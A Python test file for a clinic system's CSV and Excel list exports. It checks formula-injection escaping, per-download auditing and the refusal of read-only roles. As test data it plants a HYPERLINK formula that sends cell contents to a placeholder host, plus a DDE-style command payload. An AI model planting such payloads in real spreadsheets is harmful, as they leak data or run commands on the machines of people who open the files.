"""Lists to spreadsheets: caseload, tasks, appointments, referrals and the directory as CSV
and Excel; formula-injection guards; each download audited; read-only roles refused."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from db.base import today as clinic_today
from db.models import AuditEvent, Role
from services.core.errors import InvalidInput, PermissionDenied
from services.core.spreadsheet import safe_cell, unguard
from services.interop.spreadsheets import LISTS, ListRequest, export_list, list_rows
from services.scheduling import appointments as scheduling
from services.tasks import tasks
from tests.unit.contacts_helpers import org, patient
from tests.unit.test_scheduling import at, data

EVIL = '=HYPERLINK("http://x.test/?"&A1,"click")'


@pytest.mark.parametrize(
    "value,shown",
    [
        ("=1+2", "'=1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+1 617-555-0100 ext. 12", "+1 617-555-0100 ext. 12"),
        ("-3", "-3"),
        ("\t=x", "'\t=x"),
        ("Harbor Meals", "Harbor Meals"),
    ],
)
def test_formula_guard(value, shown):
    assert safe_cell(value) == shown and unguard(shown) == value


def _fill(s, nurse, other):
    mine = patient(s, "Ana", "Reyes")
    mine.primary_case_manager_id = nurse.id
    theirs = patient(s, "Bo", EVIL)
    theirs.primary_case_manager_id = other.id
    tasks.create_task(
        s,
        nurse,
        title=EVIL,
        due_on=clinic_today() - timedelta(days=1),
        patient_id=mine.id,
        owner_user_id=nurse.id,
    )
    tasks.create_task(
        s,
        nurse,
        title="Call daughter",
        due_on=clinic_today(),
        patient_id=theirs.id,
        owner_user_id=other.id,
    )
    tomorrow = clinic_today() + timedelta(days=1)
    scheduling.book_appointment(
        s, nurse, data(mine, nurse.id, at(tomorrow.year, tomorrow.month, tomorrow.day, 9))
    )
    org(s, nurse, name=EVIL, org_type="food/meals")
    return mine, theirs


def test_every_list_as_csv_and_excel_guarded_and_audited(s, nurse, make_actor):
    other = make_actor(Role.NURSE)
    _fill(s, nurse, other)
    for which in LISTS:
        for fmt in ("csv", "xlsx"):
            raw = export_list(s, nurse, ListRequest(which), fmt)
            if fmt == "csv":
                cells = [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for c in row]
            else:
                sheet = load_workbook(io.BytesIO(raw)).active
                assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
                cells = [str(c.value) for row in sheet.iter_rows() for c in row]
            assert not any(c.startswith("=") for c in cells), (which, fmt)
            if which in ("caseload", "tasks", "directory"):
                assert any(c.startswith("'=HYPERLINK") for c in cells), (which, fmt)
    events = s.scalars(select(AuditEvent).where(AuditEvent.entity == "spreadsheet")).all()
    assert len(events) == 2 * len(LISTS)
    assert all(e.action == "export" for e in events)


def test_mine_and_the_days_of_appointments(s, nurse, make_actor):
    other = make_actor(Role.NURSE)
    mine, _ = _fill(s, nurse, other)
    caseload = list_rows(s, nurse, ListRequest("caseload", mine=True))
    assert [r["MRN"] for r in caseload] == [mine.mrn]
    assert len(list_rows(s, nurse, ListRequest("caseload"))) == 2
    assert [r["Task"] for r in list_rows(s, nurse, ListRequest("tasks", mine=True))] == [EVIL]
    assert list_rows(s, nurse, ListRequest("tasks", mine=True))[0]["Overdue"] == "yes"
    later = clinic_today() + timedelta(days=5)
    assert list_rows(s, nurse, ListRequest("appointments", first_day=later)) == []
    (visit,) = list_rows(s, nurse, ListRequest("appointments", mine=True), tz="America/New_York")
    assert visit["Start"] == "09:00" and visit["Patient"].startswith("Reyes")
    with pytest.raises(InvalidInput):
        list_rows(s, nurse, ListRequest("appointments", first_day=later, last_day=clinic_today()))


def test_read_only_roles_take_no_lists_out(s, make_actor):
    with pytest.raises(PermissionDenied):
        export_list(s, make_actor(Role.VIEWER), ListRequest("caseload"), "csv")
